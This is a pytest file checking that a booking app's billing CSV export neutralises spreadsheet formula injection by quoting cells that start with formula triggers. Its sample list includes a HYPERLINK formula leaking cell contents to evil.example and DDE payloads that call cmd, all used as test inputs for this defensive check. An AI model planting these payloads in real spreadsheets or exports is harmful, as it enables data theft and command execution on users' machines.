"""CSV exports open in a spreadsheet as data: names and e-mails that start like a formula are written as text."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
import time_machine

from booking import csvsafe
from booking.extensions import db
from booking.services import bookings
from calendars.worktime import PARIS

from . import factories as f

NOW = datetime(2026, 12, 2, 8, tzinfo=UTC)  # Wednesday 09:00 in Paris; the session is next Monday
# What a spreadsheet would run or reinterpret: OWASP's triggers, then their full-width forms.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Détails")',
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
]


@pytest.mark.parametrize(
    "value, written",
    [
        ("Dupont", "Dupont"),
        ("", ""),
        ("Jean-Marc", "Jean-Marc"),
        (" =1", " =1"),
        (-30, -30),
        (45, 45),
        *[(text, "'" + text) for text in FORMULAS],
    ],
)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value, written):
    assert csvsafe.cell(value) == written


@pytest.mark.parametrize("name", FORMULAS, ids=[repr(n[:6]) for n in FORMULAS])
def test_billing_csv_writes_formula_like_names_as_text(app, client, auth, name):
    company = f.company("serenite", contract_start=date(2026, 1, 1), name=name)
    contact = f.user("client", company, name=name, email=f"{name[:1]}cmd@test.example")
    f.consultant().user.name = name
    planner = f.user("planner")
    db.session.commit()
    with time_machine.travel(NOW, tick=False):
        bookings.book(contact, "erplib", datetime(2026, 12, 7, 10, tzinfo=PARIS), NOW)
        auth.login(planner.email)
        response = client.get(f"/planification/facturation/{company.id}/2026-12.csv")
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # the byte-order mark: Excel then reads UTF-8 (names with accents)
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert len(rows) == 3  # header, the session, the total
    header, session = rows[0], dict(zip(rows[0], rows[1], strict=True))
    assert session["consultant"] == "'" + name and session["contact"] == f"'{name[:1]}cmd@test.example"
    assert not [cell for row in rows for cell in row if cell.startswith(csvsafe.TRIGGERS)]
    assert header[0] == "date" and rows[2][-2:] == ["45", "0"]
